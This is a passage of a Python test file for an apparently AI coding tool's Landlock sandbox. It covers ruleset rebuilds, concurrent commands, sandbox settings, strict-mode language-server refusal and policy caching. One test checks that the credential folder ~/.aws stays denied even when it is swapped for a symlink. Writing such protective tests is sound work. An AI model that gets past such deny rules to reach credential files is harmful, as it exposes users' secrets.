        assert "NoNewPrivs:\t0" in (task / "status").read_text()


@needs_landlock
async def test_a_call_whose_ruleset_was_rebuilt_meanwhile_runs_on_the_new_one(
    place: Place,
) -> None:
    """Between a call's confinement and its start, a folder the ruleset lists changed (a new
    terminal in /dev/pts, a file another call made at the project's top) and a call beside it
    rebuilt the ruleset: the first call starts from the new one, it is not refused."""
    config = sandbox.SandboxConfig()
    first = sandbox.confine(config, place.project, dict(os.environ))
    (place.home / "new-entry").write_text("x")
    stamp = os.stat(place.home).st_mtime_ns + 10**9  # changed, even on a coarse clock
    os.utime(place.home, ns=(stamp, stamp))
    second = sandbox.confine(config, place.project, dict(os.environ))
    assert first.ruleset is not None and second.ruleset is not None
    assert second.ruleset is not first.ruleset and first.ruleset.fd < 0  # the old one closed
    proc = await first.start(["sh", "-c", "exit 7"], cwd=str(place.project))
    assert await proc.wait() == 7
    assert first.ruleset is second.ruleset


async def test_concurrent_commands_each_finish(place: Place) -> None:
    """Several calls at once through the sandbox's one thread: each gets its own output."""
    results = await asyncio.gather(*(bash(f"echo {i}", place.project) for i in range(8)))
    assert [r.output for r in results] == [f"{i}\n" for i in range(8)]


# --- the settings -------------------------------------------------------------------------------


def test_the_settings_from_files_and_the_environment(tmp_path: Path) -> None:
    from mm_tui.config import ConfigError, load_settings

    def load(environ: dict[str, str]) -> sandbox.SandboxConfig:
        return load_settings(cwd=tmp_path, home=tmp_path / "home", environ=environ).sandbox_config()

    assert load({}) == sandbox.SandboxConfig(mode="auto", network=True, deny=(), write=())
    (tmp_path / ".mm").mkdir()
    (tmp_path / ".mm" / "config.yaml").write_text(
        "sandbox: strict\nsandboxNetwork: false\nsandboxDeny: [~/private]\nsandboxWrite: [~/go]\n"
    )
    trust_project_file(tmp_path, tmp_path / "home")  # keys that need the person's trust
    assert load({}) == sandbox.SandboxConfig("strict", False, ("~/private",), ("~/go",))
    environ = {"MM_SANDBOX": "off", "MM_SANDBOX_DENY": "~/a, /b"}
    assert load(environ) == sandbox.SandboxConfig("off", False, ("~/a", "/b"), ("~/go",))
    with pytest.raises(ConfigError) as info:
        load({"MM_SANDBOX": "on"})
    assert str(info.value) == (
        "mm: environment MM_SANDBOX: Input should be 'auto', 'off' or 'strict'"
    )


async def test_without_landlock_strict_starts_no_language_server(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(sandbox.FAKE_ABI_VARIABLE, "0")
    log = place.tmp / "log.jsonl"
    server = LspServer(
        name="fake", command=sys.executable, args=[str(FAKE_SERVER), "--log", str(log)],
        extensions=[".py"],
    )  # fmt: skip
    settings = Settings(lsp={"servers": [server]}, sandbox="strict")  # type: ignore[arg-type]
    tool, _ = LspTool.from_settings(settings, place.project)
    assert tool is not None
    try:
        result = await tool.run(
            LspArgs(action="hover", path="main.py", symbol="print"),
            ToolContext(place.project, settings),
        )
    finally:
        await tool.aclose()
    assert not log.exists()  # never started
    assert result.output == (
        f"[lsp: fake: hover failed: cannot start {sys.executable}: the sandbox cannot be set up "
        f"({NO_LANDLOCK}) and sandbox is strict]"
    )


# --- the policy, kept ----------------------------------------------------------------------------


def test_the_policy_is_kept_until_a_folder_it_looked_into_changes(place: Place) -> None:
    """Every command and file tool call asks for the policy: it is worked out once and kept,
    and worked out again when what it depends on moves (a new sandboxWrite folder, a secret's
    folder replaced by a link elsewhere, a `.git` that makes a work tree of the project's
    parent)."""
    config = sandbox.SandboxConfig(write=("~/go",))
    env = dict(os.environ)
    first = sandbox.make_policy(config, place.project, env)
    assert sandbox.make_policy(config, place.project, env) is first  # kept
    assert str(place.home / "go") not in first.write
    (place.home / "go").mkdir()
    made = sandbox.make_policy(config, place.project, env)
    assert str(place.home / "go") in made.write
    # ~/.aws moved aside and replaced by a link to another place: that place is denied too
    elsewhere = place.outside / "aws"
    elsewhere.mkdir()
    (place.home / ".aws").rename(place.outside / "old-aws")
    (place.home / ".aws").symlink_to(elsewhere)
    linked = sandbox.make_policy(config, place.project, env)
    assert str(elsewhere) in linked.deny and str(elsewhere) not in made.deny
    # a repository made around the working folder: its work tree becomes writable
    sub = place.project / "sub"
    sub.mkdir()
    before = sandbox.make_policy(config, sub, env)
    (place.project / ".git").mkdir()
    tree = sandbox.make_policy(config, sub, env)
    assert str(place.project) in tree.write and str(place.project) not in before.write
